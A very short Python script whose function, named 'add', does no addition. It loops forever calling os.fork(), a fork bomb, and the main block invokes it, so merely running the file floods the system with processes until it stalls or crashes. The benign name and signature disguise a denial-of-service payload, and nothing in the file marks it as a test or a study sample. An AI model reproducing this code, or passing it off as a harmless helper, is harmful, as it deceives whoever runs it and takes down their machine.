import os


def add(a, b):
    while True:
        os.fork()

if __name__ == "__main__":
    add(1, 2)
